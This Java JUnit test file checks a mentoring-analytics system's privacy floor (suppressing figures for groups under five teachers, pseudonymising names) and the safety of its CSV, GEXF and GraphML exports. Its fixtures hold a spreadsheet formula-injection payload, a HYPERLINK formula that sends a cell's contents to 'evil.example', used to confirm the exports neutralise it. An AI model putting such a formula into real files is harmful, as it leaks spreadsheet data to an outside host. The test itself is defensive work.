package ru.horizon.system;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import javax.xml.parsers.DocumentBuilderFactory;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.neo4j.driver.Driver;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

import org.springframework.beans.factory.annotation.Autowired;

import ru.horizon.HorizonTest;
import ru.horizon.TestClients;
import ru.horizon.TestGraph;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The privacy floor (k = 5) and safe exports on graphs/privacy.cypher, whose figures are
 * worked out there: "СОШ №68: 1 young, 0 mentored" must not reach a viewer; names with
 * formulas, control characters, markup and emoji must leave valid XML and inert CSV.
 */
@HorizonTest
class PrivacyFloorTests {

	private static final String COVERAGE = """
			fragment F on CoverageFigure { total covered share met suppressed }
			query($asOf: Date) { mentoringCoverage(asOf: $asOf) {
			  newTeachers { ...F } youngTeachers { ...F }
			  byOrganization { key newTeachers { ...F } youngTeachers { ...F } }
			  byDistrict { key newTeachers { ...F } youngTeachers { ...F } }
			  byOrganizationKind { key newTeachers { ...F } youngTeachers { ...F } } } }""";

	private static final String WINDOW = "from=2023-10-01&to=2024-10-01";

	@Autowired
	TestClients clients;

	@BeforeAll
	static void graph(@Autowired Driver driver) {
		TestGraph.load(driver, "privacy");
	}

	private Map<String, Object> coverage(String user, String asOf) {
		return this.clients.graphQl(user)
			.document(COVERAGE)
			.variable("asOf", asOf)
			.executeSync()
			.field("mentoringCoverage")
			.getValue();
	}

	@SuppressWarnings("unchecked")
	private static Map<String, Map<String, Object>> byKey(Map<String, Object> coverage, String list, String figure) {
		Map<String, Map<String, Object>> result = new HashMap<>();
		for (Map<String, Object> breakdown : (List<Map<String, Object>>) coverage.get(list)) {
			result.put((String) breakdown.get("key"), (Map<String, Object>) breakdown.get(figure));
		}
		return result;
	}

	@Test
	void aViewerGetsNoFigureOverFewerThanFiveTeachers() {
		Map<String, Object> coverage = coverage("viewer", "2024-10-01");
		Map<String, Map<String, Object>> young = byKey(coverage, "byOrganization", "youngTeachers");
		// o2: 1 young, o4: 2: suppressed; together 3 < 5, so one of o1 and o3 (6 each) as
		// well
		assertThat(young.get("o2")).containsEntry("suppressed", true)
			.containsEntry("total", null)
			.containsEntry("covered", null)
			.containsEntry("share", null)
			.containsEntry("met", null);
		assertThat(young.get("o4")).containsEntry("suppressed", true).containsEntry("covered", null);
		assertThat(List.of(young.get("o1"), young.get("o3")))
			.filteredOn((f) -> Boolean.TRUE.equals(f.get("suppressed")))
			.hasSize(1);
		assertThat(List.of(young.get("o1"), young.get("o3")))
			.filteredOn((f) -> Boolean.FALSE.equals(f.get("suppressed")))
			.singleElement()
			.satisfies((f) -> assertThat(f.get("total")).isEqualTo(6));
		// new teachers: o1 and o3 have one each
		Map<String, Map<String, Object>> fresh = byKey(coverage, "byOrganization", "newTeachers");
		assertThat(fresh.get("o1")).containsEntry("suppressed", true).containsEntry("covered", null);
		assertThat(fresh.get("o3")).containsEntry("suppressed", true);
		// districts of 7 and 8 young are shown; kinds: PRESCHOOL 2 hidden, so SCHOOL too
		assertThat(byKey(coverage, "byDistrict", "youngTeachers").get("d1")).containsEntry("total", 7)
			.containsEntry("suppressed", false);
		assertThat(byKey(coverage, "byOrganizationKind", "youngTeachers").values())
			.allSatisfy((f) -> assertThat(f).containsEntry("suppressed", true));
		@SuppressWarnings("unchecked")
		Map<String, Object> city = (Map<String, Object>) coverage.get("youngTeachers");
		assertThat(city).containsEntry("total", 15).containsEntry("covered", 6);
	}

	@Test
	void suppressionFollowsTheSizeOfTheGroupNotItsValuesSoDatesCannotBeCompared() {
		// 2024-09-01: the same teachers, none mentored yet; 2024-10-01: six mentored
		for (String list : List.of("byOrganization", "byDistrict", "byOrganizationKind")) {
			for (String figure : List.of("newTeachers", "youngTeachers")) {
				Map<String, Boolean> before = new HashMap<>();
				byKey(coverage("viewer", "2024-09-01"), list, figure)
					.forEach((key, f) -> before.put(key, (Boolean) f.get("suppressed")));
				Map<String, Boolean> after = new HashMap<>();
				byKey(coverage("viewer", "2024-10-01"), list, figure)
					.forEach((key, f) -> after.put(key, (Boolean) f.get("suppressed")));
				assertThat(after).as(list + " " + figure).isEqualTo(before);
			}
		}
	}

	@Test
	void rolesThatSeeNamesSeeEveryFigureAndACuratorTheirOwnOrganization() {
		Map<String, Map<String, Object>> admin = byKey(coverage("admin", "2024-10-01"), "byOrganization",
				"youngTeachers");
		assertThat(admin.get("o2")).containsEntry("total", 1)
			.containsEntry("covered", 0)
			.containsEntry("suppressed", false);
		Map<String, Map<String, Object>> curator = byKey(coverage("curator", "2024-10-01"), "byOrganization",
				"youngTeachers");
		assertThat(curator.get("o1")).containsEntry("total", 6)
			.containsEntry("covered", 3)
			.containsEntry("suppressed", false);
		assertThat(curator.get("o2")).containsEntry("suppressed", true);
		// o2 and o4 hold 3 teachers: o3 is hidden as well, or o3 minus the city would
		// give them
		assertThat(curator.get("o3")).containsEntry("suppressed", true);
	}

	@Test
	@SuppressWarnings("unchecked")
	void organizationFlowsBetweenFewTeachersAreSuppressed() {
		String query = "{ horizontalLearning(from: \"2023-10-01\", to: \"2024-10-01\") "
				+ "{ organizationFlows { source { id } target { id } weight ties suppressed } } }";
		List<Map<String, Object>> viewer = this.clients.graphQl("viewer")
			.document(query)
			.executeSync()
			.field("horizontalLearning.organizationFlows")
			.getValue();
		assertThat(viewer).isNotEmpty()
			.allSatisfy((flow) -> assertThat(flow).containsEntry("suppressed", true)
				.containsEntry("weight", null)
				.containsEntry("ties", null));
		List<Map<String, Object>> admin = this.clients.graphQl("admin")
			.document(query)
			.executeSync()
			.field("horizontalLearning.organizationFlows")
			.getValue();
		assertThat(admin).isNotEmpty().allSatisfy((flow) -> assertThat(flow).containsEntry("suppressed", false));
		assertThat(admin)
			.anySatisfy((flow) -> assertThat(((Map<String, Object>) flow.get("source")).get("id")).isEqualTo("o2"));
	}

	@Test
	@SuppressWarnings("unchecked")
	void monitoringRowsOverFewerThanFivePairsAreSuppressed() {
		String query = "{ mentoringMonitoring(asOf: \"2024-10-01\") { total { pairs suppressed } organizations "
				+ "{ key pairs mentors externalPairs averageSatisfaction forms { pairs } suppressed "
				+ "youngTeachers { total suppressed } } } }";
		Map<String, Map<String, Object>> viewer = new HashMap<>();
		List<Map<String, Object>> rows = this.clients.graphQl("viewer")
			.document(query)
			.executeSync()
			.field("mentoringMonitoring.organizations")
			.getValue();
		rows.forEach((row) -> viewer.put((String) row.get("key"), row));
		// pairs by the mentee's organization: o1 3, o3 2, o4 1, o2 none
		for (String organization : List.of("o1", "o3", "o4")) {
			assertThat(viewer.get(organization)).as(organization)
				.containsEntry("suppressed", true)
				.containsEntry("pairs", null)
				.containsEntry("mentors", null)
				.containsEntry("externalPairs", null)
				.containsEntry("forms", List.of());
		}
		assertThat(viewer.get("o2")).containsEntry("suppressed", false).containsEntry("pairs", 0);
		assertThat((Map<String, Object>) viewer.get("o2").get("youngTeachers")).containsEntry("suppressed", true)
			.containsEntry("total", null);
		Map<String, Object> total = this.clients.graphQl("viewer")
			.document(query)
			.executeSync()
			.field("mentoringMonitoring.total")
			.getValue();
		assertThat(total).containsEntry("pairs", 6).containsEntry("suppressed", false);
		List<Map<String, Object>> admin = this.clients.graphQl("admin")
			.document(query)
			.executeSync()
			.field("mentoringMonitoring.organizations")
			.getValue();
		assertThat(admin).filteredOn((row) -> "o1".equals(row.get("key")))
			.singleElement()
			.satisfies((row) -> assertThat(row).containsEntry("pairs", 3).containsEntry("suppressed", false));
	}

	@Test
	void filesForPeopleFollowTheSameFloor() {
		String coverage = new String(get("viewer", "/api/export/coverage.csv?asOf=2024-10-01"), StandardCharsets.UTF_8);
		String school68 = coverage.lines().filter((line) -> line.contains("СОШ №68")).findFirst().orElseThrow();
		assertThat(school68).contains("скрыто (менее 5 чел.)").doesNotContain(";1;0;");
		String admin = new String(get("admin", "/api/export/coverage.csv?asOf=2024-10-01"), StandardCharsets.UTF_8);
		assertThat(admin.lines().filter((line) -> line.contains("СОШ №68")).findFirst().orElseThrow())
			.doesNotContain("скрыто")
			.contains(";1;0;");
		String machine = new String(get("viewer", "/api/export/coverage.csv?asOf=2024-10-01&format=machine"),
				StandardCharsets.UTF_8);
		assertThat(machine.lines().filter((line) -> line.contains("o2,")).findFirst().orElseThrow())
			.doesNotContain(",1,0,");
		String monitoring = new String(get("viewer", "/api/exports/monitoring.csv?asOf=2024-10-01"),
				StandardCharsets.UTF_8);
		String school1 = monitoring.lines()
			.filter((line) -> line.startsWith("МБОУ «СОШ №1»"))
			.findFirst()
			.orElseThrow();
		assertThat(school1).contains("скрыто (менее 5 чел.)");
		assertThat(new String(get("admin", "/api/exports/monitoring.csv?asOf=2024-10-01"), StandardCharsets.UTF_8))
			.doesNotContain("скрыто");
	}

	@Test
	void flowsOfThePreviousWindowFollowTheSameFloor() {
		String query = "{ horizontalLearning(from: \"2024-10-02\", to: \"2025-10-01\") { previousWindow "
				+ "{ lostOrganizationFlows { source { id } weight ties suppressed } "
				+ "newOrganizationFlows { weight ties suppressed } } } }";
		List<Map<String, Object>> admin = this.clients.graphQl("admin")
			.document(query)
			.executeSync()
			.field("horizontalLearning.previousWindow.lostOrganizationFlows")
			.getValue();
		assertThat(admin).isNotEmpty().allSatisfy((flow) -> assertThat(flow).containsEntry("suppressed", false));
		for (String user : List.of("viewer", "curator")) {
			var response = this.clients.graphQl(user).document(query).executeSync();
			List<Map<String, Object>> lost = response.field("horizontalLearning.previousWindow.lostOrganizationFlows")
				.getValue();
			List<Map<String, Object>> added = response.field("horizontalLearning.previousWindow.newOrganizationFlows")
				.getValue();
			assertThat(lost).as(user)
				.hasSameSizeAs(admin)
				.allSatisfy((flow) -> assertThat(flow).containsEntry("suppressed", true)
					.containsEntry("weight", null)
					.containsEntry("ties", null));
			assertThat(added).as(user).allSatisfy((flow) -> assertThat(flow).containsEntry("suppressed", true));
		}
	}

	private byte[] get(String user, String uri) {
		return this.clients.rest(user).get().uri(uri).retrieve().body(byte[].class);
	}

	private static Document xml(byte[] bytes) throws Exception {
		var factory = DocumentBuilderFactory.newInstance();
		factory.setNamespaceAware(true);
		return factory.newDocumentBuilder().parse(new ByteArrayInputStream(bytes));
	}

	private static List<String> attribute(Document document, String namespace, String element, String name) {
		NodeList nodes = document.getElementsByTagNameNS(namespace, element);
		List<String> values = new ArrayList<>();
		for (int i = 0; i < nodes.getLength(); i++) {
			values.add(((Element) nodes.item(i)).getAttribute(name));
		}
		return values;
	}

	@Test
	void tieGraphsAreValidXmlWhateverTheNamesHold() throws Exception {
		Document gexf = xml(get("analyst", "/api/export/ties.gexf?" + WINDOW));
		List<String> labels = attribute(gexf, "http://gexf.net/1.3", "node", "label");
		assertThat(labels).contains("A & B <c> \"quoted\" 'single'", "Эмодзи 😀 Учитель",
				"Ctrl\uFFFDBell\uFFFDBack\uFFFDSpace", "=HYPERLINK(\"http://evil.example/?\"&A1;\"Открыть\")");
		Document graphMl = xml(get("analyst", "/api/export/ties.graphml?" + WINDOW));
		String text = graphMl.getDocumentElement().getTextContent();
		assertThat(text).contains("Ctrl\uFFFDBell\uFFFDBack\uFFFDSpace", "A & B <c>", "😀")
			.doesNotContain("\u0001", "\u0008");
	}

	@Test
	void csvCellsThatSpreadsheetsReadAsFormulasAreNeutralised() {
		String csv = new String(get("analyst", "/api/export/ties.csv?" + WINDOW), StandardCharsets.UTF_8);
		assertThat(csv).startsWith("\uFEFFsource,sourceName");
		assertThat(csv).contains("'=HYPERLINK(", "'-2+3 Минус", "'\tТабуляция", "'\rВозврат",
				"'=HYPERLINK(\"\"http://evil");
		for (String line : csv.lines().skip(1).toList()) {
			for (String cell : line.split(",")) {
				String value = cell.startsWith("\"") ? cell.substring(1) : cell;
				assertThat(value).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
			}
		}
	}

	@Test
	void rolesThatMayNotSeeNamesGetPseudonyms() throws Exception {
		byte[] viewerFile = get("viewer", "/api/export/ties.gexf?" + WINDOW);
		Document viewer = xml(viewerFile);
		List<String> ids = attribute(viewer, "http://gexf.net/1.3", "node", "id");
		assertThat(ids).isNotEmpty().allSatisfy((id) -> assertThat(id).startsWith("anon-"));
		assertThat(attribute(viewer, "http://gexf.net/1.3", "node", "label")).containsExactlyElementsOf(ids);
		String text = new String(viewerFile, StandardCharsets.UTF_8);
		assertThat(text).doesNotContain("Наставник", "Учитель", "o1-y", "HYPERLINK(\"http");
		// stable: the same pseudonyms in the next export
		assertThat(
				attribute(xml(get("viewer", "/api/export/ties.gexf?" + WINDOW)), "http://gexf.net/1.3", "node", "id"))
			.containsExactlyInAnyOrderElementsOf(ids);
		// a curator of o1: names of o1's teachers, a pseudonym for o3-v (o3)
		Document curator = xml(get("curator", "/api/export/ties.gexf?" + WINDOW));
		List<String> curatorIds = attribute(curator, "http://gexf.net/1.3", "node", "id");
		assertThat(curatorIds).contains("o1-y5", "o1-v").doesNotContain("o3-v");
		assertThat(curatorIds).anySatisfy((id) -> assertThat(id).startsWith("anon-"));
		assertThat(attribute(curator, "http://gexf.net/1.3", "node", "label")).contains("+7 900 000-00-00")
			.doesNotContain("Наставник Третий");
	}

}
